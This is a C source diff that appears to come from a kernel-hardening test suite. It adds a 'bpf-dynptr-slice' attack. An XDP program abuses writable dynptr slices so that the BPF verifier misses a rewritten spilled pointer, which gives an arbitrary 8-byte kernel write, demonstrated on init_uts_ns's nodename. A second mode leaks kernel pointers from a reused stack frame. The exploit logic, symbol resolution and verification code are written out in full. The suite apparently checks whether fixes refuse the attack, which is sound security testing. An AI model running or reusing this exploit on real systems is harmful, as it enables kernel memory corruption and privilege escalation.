@@ -24,6 +24,7 @@
 #include <unistd.h>
 
 #include <bpf/bpf.h>
+#include <bpf/btf.h>
 #include <bpf/libbpf.h>
 
 #include "attack.h"
@@ -807,6 +808,152 @@ out:
 	attack_bpf__destroy(s);
 }
 
+/* attack_btf.bpf.c's SLICE_LINEAR: where the test packet's linear part ends */
+#define SLICE_LINEAR 100
+
+/*
+ * Run @prog once on a 1000-byte packet whose linear part ends at
+ * SLICE_LINEAR, its frags after: 0, or -1 with @o set.
+ */
+static int slice_run(struct bpf_program *prog, struct aresult *o)
+{
+	static unsigned char pkt[1000];
+	struct xdp_md ctx = { .data = 0, .data_end = SLICE_LINEAR };
+	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = pkt, .data_size_in = sizeof(pkt),
+		    .ctx_in = &ctx, .ctx_size_in = sizeof(ctx));
+	int err;
+
+	memset(pkt, 0x41, sizeof(pkt));
+	err = bpf_prog_test_run_opts(bpf_program__fd(prog), &opts);
+	if (err) {
+		errno_outcome(o, -err, "BPF_PROG_TEST_RUN(xdp, frags)");
+		return -1;
+	}
+	return 0;
+}
+
+/* The offset of @member in the kernel's struct @type, from its BTF; -1 if none. */
+static long btf_member_offset(const struct btf *btf, const char *type, const char *member)
+{
+	int id = btf__find_by_name_kind(btf, type, BTF_KIND_STRUCT);
+	const struct btf_type *t = id < 0 ? NULL : btf__type_by_id(btf, id);
+	const struct btf_member *m = t ? btf_members(t) : NULL;
+
+	for (int i = 0; t && i < btf_vlen(t); i++, m++)
+		if (!strcmp(btf__name_by_offset(btf, m->name_off), member))
+			return btf_member_bit_offset(t, i) / 8;
+	return -1;
+}
+
+/*
+ * bpf-dynptr-slice: an XDP program's writable dynptr slice of an 8-byte
+ * stack buffer (the slice crosses the end of the packet's linear part,
+ * so the kfunc copies it into the buffer and returns the buffer)
+ * rewrites a map value pointer the program spilled over the buffer: a
+ * store of 8 bytes at any kernel address, the verifier none the wiser.
+ * Shown on init_uts_ns's nodename, which uname(2) then returns; the
+ * bytes are put back. bpf-dynptr-slice twice: the same through a second
+ * slice handed the first as its buffer (a red team's). bpf-dynptr-slice
+ * frame: a read-only slice of a subprogram's own stack buffer, returned
+ * to its caller, read after a helper's calls reused the frame: what they
+ * left, kernel pointers.
+ */
+static void run_dynptr_slice(struct aresult *o, int argc, char **argv)
+{
+	const char *mode = argc > 0 ? argv[0] : "";
+	bool frame = !strcmp(mode, "frame"), twice = !strcmp(mode, "twice");
+	struct attack_btf *s = NULL;
+	struct bpf_program *p, *prog;
+	struct btf *btf;
+	struct utsname before, after;
+	uint64_t uts, orig, mark;
+	long name, node;
+	int err;
+
+	if (*mode && !frame && !twice) {
+		failed(o, "no such mode: %s (frame, twice)", mode);
+		return;
+	}
+	btf = btf__load_vmlinux_btf();
+	if (!btf) {
+		unavailable(o, "no kernel BTF (/sys/kernel/btf/vmlinux)");
+		return;
+	}
+	if (btf__find_by_name_kind(btf, "bpf_dynptr_slice_rdwr", BTF_KIND_FUNC) < 0) {
+		unavailable(o, "no bpf_dynptr_slice_rdwr() in this kernel (6.4 on)");
+		goto out;
+	}
+	name = btf_member_offset(btf, "uts_namespace", "name");
+	node = btf_member_offset(btf, "new_utsname", "nodename");
+	if (!frame && (name < 0 || node < 0 || ksym("init_uts_ns", &uts) || uname(&before))) {
+		failed(o, "init_uts_ns's nodename: not in the kernel's BTF or /proc/kallsyms");
+		goto out;
+	}
+	libbpf_log_start();
+	s = attack_btf__open();
+	if (!s) {
+		failed(o, "open the BPF object: %s", strerror(errno));
+		goto out;
+	}
+	prog = frame ? s->progs.slice_frame : twice ? s->progs.slice_twice : s->progs.slice_alias;
+	bpf_object__for_each_program(p, s->obj)
+		bpf_program__set_autoload(p, p == prog);
+	err = -attack_btf__load(s);
+	if (err) {
+		/* our fix's words */
+		const char *why = strstr(libbpf_log, frame ? "cannot return a dynptr slice" :
+					 "R8 invalid mem access");
+
+		if (err == EPERM)
+			refused(o, "BPF_PROG_LOAD: EPERM");
+		else if (why)
+			refused(o, "the verifier: %.100s", why);
+		else
+			failed(o, "load: %s; %.300s", strerror(err), libbpf_log);
+		goto out;
+	}
+	if (frame) {
+		unsigned long pointers = 0;
+		uint64_t last = 0;
+
+		if (slice_run(prog, o))
+			goto out;
+		for (size_t i = 0; i < sizeof(s->bss->frame_words) / sizeof(uint64_t); i++)
+			if (s->bss->frame_words[i] >> 63) {
+				pointers++;
+				last = s->bss->frame_words[i];
+			}
+		if (pointers)
+			shown(o, "%lu kernel pointers in a frame gone, through a slice its "
+			      "subprogram returned, the last 0x%llx", pointers,
+			      (unsigned long long)last);
+		else
+			failed(o, "the slice read no kernel pointer");
+		goto out;
+	}
+	memcpy(&orig, before.nodename, sizeof(orig));
+	memcpy(&mark, "ldpslice", sizeof(mark));
+	s->bss->poke_addr = uts + name + node;
+	s->bss->poke_val = mark;
+	if (slice_run(prog, o))
+		goto out;
+	if (uname(&after)) {
+		failed(o, "uname: %s", strerror(errno));
+		goto out;
+	}
+	s->bss->poke_val = orig;
+	if (slice_run(prog, o))
+		goto out;
+	if (!strncmp(after.nodename, "ldpslice", 8))
+		shown(o, "a store through the pointer the verifier took for the map value "
+		      "it spilled: init_uts_ns's nodename was '%.8s' (put back)", after.nodename);
+	else
+		failed(o, "nodename '%.20s' after the store", after.nodename);
+out:
+	attack_btf__destroy(s);
+	btf__free(btf);
+}
+
 const struct attack attacks_bpf[] = {
 	{ "bpf-read-kernel", "a syscall program's bpf_probe_read_kernel() of linux_banner",
 	  run_read_kernel },
@@ -833,5 +980,7 @@ const struct attack attacks_bpf[] = {
 	  run_btf_read },
 	{ "bpf-fmod-ret", "fmod_ret on security_locked_down() returning 1 << 32, then /dev/port",
 	  run_fmod_ret },
+	{ "bpf-dynptr-slice", "a writable dynptr slice of a stack buffer rewriting a spilled "
+	  "pointer: a store to init_uts_ns", run_dynptr_slice },
 	{ 0 }
 };
